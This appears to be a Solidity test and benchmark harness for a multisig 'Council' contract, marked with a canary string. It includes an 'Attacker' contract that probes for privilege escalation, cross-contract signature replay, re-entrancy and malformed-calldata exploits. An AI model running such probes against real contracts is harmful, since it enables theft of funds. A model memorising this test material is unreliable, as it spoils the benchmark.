// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./Council.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";

// assay-canary-5c960f00-948f-47a8-b8ff-2af0a69f39db

interface Vm {
    function addr(uint256 key) external returns (address);
    function sign(uint256 key, bytes32 hash) external returns (uint8 v, bytes32 r, bytes32 s);
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address who) external;
    function prank(address who, address origin) external;
    function expectRevert() external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

contract Usd is ERC20 {
    constructor() ERC20("USD", "USD") {
        _mint(msg.sender, 1_000e18);
    }
}

contract Attacker {
    Council internal c;
    bytes32 internal job;
    bytes internal sig;

    constructor(Council c_, bytes32 job_, bytes memory sig_) {
        (c, job, sig) = (c_, job_, sig_);
    }

    receive() external payable {
        _try(abi.encodeCall(c.execute, (1)));
    }

    function _try(bytes memory data) internal returns (bool ok) {
        (ok, ) = address(c).call(data);
    }

    function run(address signer) external {
        // straight at the roster and the budgets
        _try(abi.encodeCall(c.add, (address(this))));
        _try(abi.encodeCall(c.setQuorum, (0)));
        _try(abi.encodeCall(c.setQuorum, (2)));
        _try(abi.encodeCall(c.drop, (signer)));
        _try(abi.encodeCall(c.swap, (signer, address(this))));
        _try(abi.encodeCall(c.setBudget, (address(this), address(0), 1 ether)));
        // a transaction of one's own, with everything that might confirm it
        _try(abi.encodeCall(c.propose, (address(c), 0, 100_000, abi.encodeCall(c.add, (address(this))))));
        Helper helper = new Helper(c);
        uint256[] memory ids = new uint256[](1);
        for (uint256 id = 0; id < 6; ++id) {
            ids[0] = id;
            _try(abi.encodeCall(c.confirm, (id)));
            _try(abi.encodeCall(c.confirmMany, (ids)));
            _try(abi.encodeCall(c.confirmFor, (id, signer, type(uint256).max, sig)));
            _try(abi.encodeCall(c.confirmFor, (id, address(this), type(uint256).max, "")));
            _try(abi.encodeCall(c.revoke, (id)));
            _try(abi.encodeCall(c.execute, (id)));
            helper.confirm(id);
            _try(abi.encodeCall(c.execute, (id)));
            _try(abi.encodeCall(c.cancel, (id)));
        }
        // jobs and money
        _try(abi.encodeCall(c.setOp, (address(this), true)));
        _try(abi.encodeCall(c.assign, (job, address(this))));
        _try(abi.encodeCall(c.assign, (job, address(0))));
        _try(abi.encodeCall(c.claim, (job)));
        _try(abi.encodeCall(c.spend, (address(0), address(this), 1 ether)));
    }

    /// Anything a signature of any kind is good for.
    function isValidSignature(bytes32, bytes calldata) external pure returns (bytes4) {
        return this.isValidSignature.selector;
    }

    /// Transactions after their term, and calls with odd data.
    function later() external {
        for (uint256 id = 0; id < 6; ++id) {
            _try(abi.encodeCall(c.execute, (id)));
        }
        _try(abi.encodePacked(bytes4(keccak256("add(address)")), uint96(0), address(c)));
        _try(abi.encodePacked(bytes4(keccak256("execute(uint256)")), type(uint256).max));
    }
}

contract Helper {
    Council internal c;

    constructor(Council c_) {
        c = c_;
    }

    function confirm(uint256 id) external {
        (bool ok, ) = address(c).call(abi.encodeCall(c.confirm, (id)));
        ok;
    }
}

/// Writes down whether it was called with the gas that it needs.
contract GasProbe {
    bool public enough;

    fallback() external {
        enough = gasleft() >= 299_000;
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    bytes32 private constant FEED = "price feed";
    bytes32 private constant CLEAN = "liquidations";
    bytes32 private constant CONFIRM = keccak256("Confirm(uint256 id,address signer,uint256 nonce,uint256 end)");
    uint256 private constant KEY = 0xE1;
    uint256 private constant START = 1_761_000_000;
    address private constant BEN = address(0x4041);
    address private constant CAT = address(0x3411);
    address private constant DAN = address(0xCA1);
    address private constant EVE = address(0xBEE);

    Usd private usd;
    Council private c;
    Council private twinCouncil;
    Attacker private mallory;
    address private amy;

    function setUp() public {
        vm.warp(START);
        usd = new Usd();
        amy = vm.addr(KEY);
        address[] memory ss = new address[](3);
        (ss[0], ss[1], ss[2]) = (amy, BEN, CAT);
        c = new Council(ss, 2);
        twinCouncil = new Council(ss, 2);
        // what Amy has signed for another council of the same people is public
        mallory = new Attacker(c, FEED, _sign(KEY, twinCouncil, 0, amy, 0, type(uint256).max));
        vm.deal(address(c), 5 ether);
        usd.transfer(address(c), 500e18);
        vm.prank(BEN);
        c.setOp(DAN, true);
        vm.prank(DAN);
        c.claim(FEED);
        // a proposal of one signer that the others do not like
        vm.prank(CAT);
        c.propose(address(c), 0, 100_000, abi.encodeCall(c.add, (address(mallory))));
        vm.prank(amy);
        c.propose(address(mallory), 1 ether, 0, "");
    }

    function _sign(uint256 key, Council k, uint256 id, address s, uint256 n, uint256 end) private returns (bytes memory) {
        bytes32 h = keccak256(abi.encode(CONFIRM, id, s, n, end));
        (uint8 v, bytes32 r, bytes32 t) = vm.sign(key, keccak256(abi.encodePacked("\x19\x01", k.domain(), h)));
        return abi.encodePacked(r, t, v);
    }

    /// Ben proposes a call of the council to itself, Cat confirms it, anyone executes it.
    function _decide(bytes memory d) private {
        vm.prank(BEN);
        uint256 id = c.propose(address(c), 0, 100_000, d);
        vm.prank(CAT);
        c.confirm(id);
        c.execute(id);
    }

    function test_Regular() public {
        vm.prank(amy);
        uint256 id = c.propose(address(c), 0, 100_000, abi.encodeCall(c.add, (DAN)));
        (bool ok, ) = address(c).call(abi.encodeCall(c.execute, (id)));
        require(!ok && !c.ready(id) && c.length() == id + 1, "one of two");
        vm.prank(BEN);
        c.confirm(id);
        require(c.ready(id), "ready");
        c.execute(id);
        require(c.seat(DAN) == 4 && c.signers().length == 4 && c.get(id).done && !c.ready(id), "added");
        (ok, ) = address(c).call(abi.encodeCall(c.execute, (id)));
        require(!ok, "once");

        // confirmations of a former signer do not count, not even when it returns
        vm.prank(DAN);
        id = c.propose(address(0xC0), 2 ether, 0, "");
        vm.prank(CAT);
        c.confirm(id);
        require(c.count(id) == 2, "two of four");
        _decide(abi.encodeCall(c.drop, (DAN)));
        require(c.seat(DAN) == 0 && c.count(id) == 1, "a former signer");
        (ok, ) = address(c).call(abi.encodeCall(c.execute, (id)));
        require(!ok, "too few again");
        _decide(abi.encodeCall(c.add, (DAN)));
        require(c.seat(DAN) == 5 && c.count(id) == 1, "back");
        _decide(abi.encodeCall(c.swap, (DAN, address(0xF1))));
        require(c.seat(DAN) == 0 && c.seat(address(0xF1)) == 6 && c.signers().length == 4, "replaced");
        vm.prank(amy);
        c.confirm(id);
        vm.prank(amy);
        c.revoke(id);
        require(c.count(id) == 1 && c.nonces(amy) == 1, "revoked");
        c.confirmFor(id, amy, START, _sign(KEY, c, id, amy, 1, START));
        require(c.count(id) == 2 && c.nonces(amy) == 2, "signed");
        c.execute(id);
        require(address(0xC0).balance == 2 ether, "paid");

        money();
        jobs();
        terms();
    }

    function money() private {
        _decide(abi.encodeCall(c.setBudget, (DAN, address(usd), 100e18)));
        _decide(abi.encodeCall(c.setBudget, (DAN, address(0), 0.5 ether)));
        vm.prank(DAN);
        c.spend(address(usd), EVE, 60e18);
        vm.prank(DAN);
        c.spend(address(0), EVE, 0.5 ether);
        require(usd.balanceOf(EVE) == 60e18 && EVE.balance == 0.5 ether, "spent");
        require(c.left(DAN, address(usd)) == 40e18 && c.left(DAN, address(0)) == 0, "left");
        vm.warp(START + 7 days);
        vm.prank(DAN);
        c.spend(address(usd), EVE, 100e18);
        require(c.left(DAN, address(usd)) == 0, "the next week");
        _decide(abi.encodeCall(c.setBudget, (DAN, address(usd), 50e18)));
        require(c.left(DAN, address(usd)) == 0, "less than was spent");
    }

    function jobs() private {
        vm.prank(DAN);
        c.assign(FEED, address(0));
        vm.prank(DAN);
        c.claim(CLEAN);
        vm.prank(amy);
        c.assign(CLEAN, address(0));
        require(c.holder(FEED) == address(0) && c.holder(CLEAN) == address(0), "free");
        vm.prank(DAN);
        c.claim(CLEAN);
        vm.prank(CAT);
        c.setOp(DAN, false);
        require(c.holder(CLEAN) == address(0), "no operator any more");
        vm.prank(CAT);
        c.setOp(EVE, true);
        vm.prank(EVE);
        c.claim(CLEAN);
        require(c.holder(CLEAN) == EVE, "the next one");
        vm.prank(address(this), address(this));
        c.comment(0, "no");
        (bool ok, ) = address(c).call{value: 1 ether}("");
        require(ok && address(c).balance == 3.5 ether, "a grant");
    }

    function terms() private {
        vm.prank(CAT);
        uint256 id = c.propose(address(c), 0, 100_000, abi.encodeCall(c.setQuorum, (3)));
        vm.prank(BEN);
        c.confirm(id);
        vm.warp(block.timestamp + 21 days + 1);
        (bool ok, ) = address(c).call(abi.encodeCall(c.execute, (id)));
        require(!ok && !c.ready(id) && c.quorum() == 2, "expired");

        // whoever executes gives the call the gas that was asked for, however much there is to read
        GasProbe probe = new GasProbe();
        vm.prank(amy);
        id = c.propose(address(probe), 0, 300_000, new bytes(10_000));
        uint256[] memory ids = new uint256[](1);
        ids[0] = id;
        vm.prank(BEN);
        c.confirmMany(ids);
        (ok, ) = address(c).call{gas: 400_000}(abi.encodeCall(c.execute, (id)));
        require(!ok, "reading takes a part of it");
        c.execute(id);
        require(probe.enough(), "enough gas");

        vm.prank(amy);
        id = c.propose(address(c), 0, 100_000, abi.encodeCall(c.setQuorum, (4)));
        vm.prank(amy);
        c.cancel(id);
        require(c.get(id).done, "cancelled");
        _decide(abi.encodeCall(c.setQuorum, (3)));
        require(c.quorum() == 3, "a larger quorum");
    }

    /// Whom nobody has elected signs nothing and holds nothing, and no single signer decides.
    function inOrder() public view returns (bool) {
        return
            c.seat(address(mallory)) == 0 &&
            !c.isOp(address(mallory)) &&
            c.holder(FEED) != address(mallory) &&
            c.left(address(mallory), address(0)) == 0 &&
            c.quorum() >= 2;
    }

    // What is refused, each from the state after setUp().

    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    function test_RefusesStrangers() public {
        refuses(EVE, Council.NotSigner.selector);
        c.confirm(0);
        refuses(EVE, Council.NotSigner.selector);
        c.confirmMany(new uint256[](0));
        refuses(EVE, Council.NotSigner.selector);
        c.propose(EVE, 0, 0, "");
        refuses(EVE, Council.NotSigner.selector);
        c.setOp(EVE, true);
        refuses(EVE, Jobs.NotOp.selector);
        c.claim(CLEAN);
        refuses(EVE, Jobs.NotOp.selector);
        c.spend(address(0), EVE, 0);
        refuses(EVE, Council.NotHolder.selector);
        c.assign(FEED, address(0));
        refuses(address(0), Council.NotHolder.selector);
        c.assign(FEED, address(0));
        refuses(BEN, Council.NotProposer.selector);
        c.cancel(0);
        vm.prank(address(new GasProbe()), EVE);
        vm.expectRevert(Council.NotEoa.selector);
        c.comment(0, "yes");
    }

    function test_RefusesJobs() public {
        refuses(DAN, Council.Taken.selector);
        c.claim(FEED);
        refuses(DAN, Jobs.NotOp.selector);
        c.assign(FEED, EVE);
        refuses(BEN, Jobs.NotOp.selector);
        c.setOp(address(0), true);
        vm.prank(BEN);
        c.setOp(BEN, true);
        vm.prank(DAN);
        c.assign(FEED, BEN);
        require(c.holder(FEED) == BEN, "to an operator");
        refuses(DAN, Council.NotHolder.selector);
        c.assign(FEED, DAN);
    }

    function test_RefusesBudgets() public {
        vm.prank(address(c));
        c.setBudget(DAN, address(0), 1 ether);
        refuses(DAN, Budgets.OverBudget.selector);
        c.spend(address(0), EVE, 1 ether + 1);
        vm.prank(DAN);
        c.spend(address(0), EVE, 0.6 ether);
        vm.warp(START + 7 days - 1);
        refuses(DAN, Budgets.OverBudget.selector);
        c.spend(address(0), EVE, 0.6 ether);
        refuses(DAN, Budgets.OverBudget.selector);
        c.spend(address(usd), EVE, 1);
        vm.prank(BEN);
        c.setOp(DAN, false);
        refuses(DAN, Jobs.NotOp.selector);
        c.spend(address(0), EVE, 0.1 ether);
    }

    function test_RefusesTransactions() public {
        refuses(CAT, Council.NoTx.selector);
        c.confirm(99);
        vm.expectRevert(Council.Unconfirmed.selector);
        c.execute(0);
        vm.prank(CAT);
        uint256 id = c.propose(address(0xC0), 0, 0, "");
        vm.prank(amy);
        c.confirm(id);
        c.execute(id);
        vm.expectRevert(Council.Done.selector);
        c.execute(id);
        refuses(CAT, Council.Done.selector);
        c.cancel(id);
        vm.prank(CAT);
        id = c.propose(address(0xC0), 1_000 ether, 0, "");
        vm.prank(amy);
        c.confirm(id);
        vm.expectRevert();
        c.execute(id);
        vm.prank(CAT);
        id = c.propose(address(0xC0), 0, 0, "");
        vm.prank(amy);
        c.confirm(id);
        vm.warp(START + 21 days + 1);
        vm.expectRevert(Council.Expired.selector);
        c.execute(id);
    }

    function test_RefusesSignatures() public {
        uint256 end = START + 1 hours;
        bytes memory sig = _sign(KEY, c, 0, amy, 0, end);
        vm.expectRevert(Council.BadSig.selector);
        c.confirmFor(1, amy, end, sig);
        vm.expectRevert(Council.BadSig.selector);
        c.confirmFor(0, BEN, end, sig);
        bytes memory other = _sign(KEY, twinCouncil, 0, amy, 0, end);
        vm.expectRevert(Council.BadSig.selector);
        c.confirmFor(0, amy, end, other);
        address lou = vm.addr(0x10);
        other = _sign(0x10, c, 0, lou, 0, end);
        vm.expectRevert(Council.NotSigner.selector);
        c.confirmFor(0, lou, end, other);
        vm.prank(amy);
        c.revoke(0);
        vm.expectRevert(Council.BadSig.selector);
        c.confirmFor(0, amy, end, sig);
        sig = _sign(KEY, c, 0, amy, 1, end);
        c.confirmFor(0, amy, end, sig);
        require(c.count(0) == 2, "confirmed");
        vm.expectRevert(Council.BadSig.selector);
        c.confirmFor(0, amy, end, sig);
        sig = _sign(KEY, c, 1, amy, 2, end);
        vm.warp(end + 1);
        vm.expectRevert(Council.Expired.selector);
        c.confirmFor(1, amy, end, sig);
    }

    function test_RefusesRosters() public {
        address[] memory ss = c.signers();
        bytes4 why = Roster.BadSigner.selector;
        refuses(address(c), why);
        c.add(address(0));
        refuses(address(c), why);
        c.add(address(c));
        refuses(address(c), why);
        c.add(ss[0]);
        refuses(address(c), why);
        c.drop(EVE);
        refuses(address(c), why);
        c.swap(EVE, DAN);
        refuses(address(c), why);
        c.swap(ss[0], ss[1]);
        refuses(address(c), Roster.BadQuorum.selector);
        c.setQuorum(1);
        refuses(address(c), Roster.BadQuorum.selector);
        c.setQuorum(ss.length + 1);
        vm.prank(address(c));
        c.setQuorum(ss.length);
        refuses(address(c), Roster.BadQuorum.selector);
        c.drop(ss[0]);
        for (uint160 i = uint160(ss.length); i < 9; ++i) {
            vm.prank(address(c));
            c.add(address(0x1000 + i));
        }
        refuses(address(c), why);
        c.add(address(0x2000));
        vm.expectRevert(Roster.BadQuorum.selector);
        new Council(new address[](0), 2);
    }

    /// What the council alone may do stands behind one door.
    function test_RefusesAlike() public {
        bytes[5] memory calls = [
            abi.encodeCall(c.add, (EVE)),
            abi.encodeCall(c.setQuorum, (2)),
            abi.encodeCall(c.drop, (amy)),
            abi.encodeCall(c.swap, (BEN, DAN)),
            abi.encodeCall(c.setBudget, (EVE, address(0), 1))
        ];
        uint256 n;
        for (uint256 i = 0; i < 5; ++i) {
            vm.prank(CAT);
            (bool ok, ) = address(c).call(calls[i]);
            if (ok) ++n;
        }
        require(n == 0 || n == 5, "one of them is open");
    }

    function exploit() public {
        mallory.run(amy);
        vm.warp(block.timestamp + 22 days);
        mallory.later();
    }

    function test_Exploit() public {
        require(inOrder(), "before");
        exploit();
        require(!inOrder(), "all is in order");
    }

    function target() public view returns (address) {
        return address(c);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}
